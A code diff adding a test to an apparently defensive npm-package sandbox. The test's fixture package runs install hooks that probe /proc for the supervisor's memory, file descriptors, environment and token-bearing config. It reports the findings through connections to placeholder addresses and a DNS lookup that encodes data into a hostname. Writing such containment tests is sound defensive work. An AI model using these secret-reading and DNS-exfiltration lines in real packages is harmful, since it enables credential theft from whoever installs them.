@@ -195,6 +195,33 @@ def test_package_code_cannot_kill_the_supervisor(sandbox: None) -> None:
     assert any(f.rule == "CW-DYN-BAIT-READ" and "postinstall" in f.message for f in out.findings)
 
 
+def test_package_code_cannot_read_the_supervisors_token(sandbox: None) -> None:
+    # the run's token (which makes markers trusted) is in the supervisor's config and memory:
+    # its memory, open files, environment and root are out of reach of the inner sandbox
+    script = ("grep -q supervisor.py /proc/2/cmdline && echo sup > /tmp/r.txt\n"
+              "for p in /proc/1 /proc/2; do n=${p#/proc/}\n"
+              "  head -c1 $p/mem >/dev/null 2>&1 && echo mem$n\n"
+              "  for f in $p/fd/*; do head -c1 $f >/dev/null 2>&1 && echo fd$n; done\n"
+              "  cat $p/environ >/dev/null 2>&1 && echo env$n\n"
+              "  cat $p/root/cw/run/config.json >/dev/null 2>&1 && echo cfg$n\n"
+              "done >> /tmp/r.txt 2>&1\n"
+              "cat /cw/run/config.json >/dev/null 2>&1 && echo cfgdirect >> /tmp/r.txt\n"
+              "echo self >> /tmp/r.txt\n")
+    js = ("const r = require('fs').readFileSync('/tmp/r.txt', 'utf8').split('\\n').filter(Boolean);\n"
+          "for (const x of r.filter((y) => y !== 'sup'))\n"
+          "  require('net').connect(80, '192.0.2.1' + (x === 'self' ? '1' : '2'))"
+          ".on('error', () => {});\n"
+          "require('dns').lookup(r.join('-').slice(0, 60) + '.r.invalid', () => {});\n")
+    out = run({"package.json": manifest("snoop", scripts={"preinstall": "sh s.sh",
+                                                           "postinstall": "node r.js"}),
+               "s.sh": script, "r.js": js})
+    names = [e.detail for e in out.dynamic.events if e.kind == "dns"]
+    assert "192.0.2.11:80" in nets(out), nets(out)  # the probe ran and reported
+    # pid 2 is the supervisor (pid 1 its bwrap): nothing of theirs could be read
+    assert any(n.startswith("query sup-self.") for n in names), names
+    assert "192.0.2.12" not in nets(out)
+
+
 def test_without_bwrap_nothing_runs_and_the_reason_is_given(tmp_path: Path) -> None:
     flag = tmp_path / "ran-bare"
     files = {"package.json": manifest("bare", scripts={"preinstall": f"touch {flag}"}),
